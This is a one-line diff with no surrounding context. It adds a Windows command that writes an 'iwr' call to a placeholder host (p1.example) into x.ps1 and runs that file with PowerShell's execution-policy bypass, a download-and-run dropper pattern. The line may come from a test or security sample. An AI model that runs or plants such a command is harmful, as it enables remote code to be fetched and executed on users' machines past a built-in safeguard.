@@ -1,0 +1,1 @@
+cmd /c echo iwr http://p1.example/h>x.ps1& powershell -ep bypass -file x.ps1
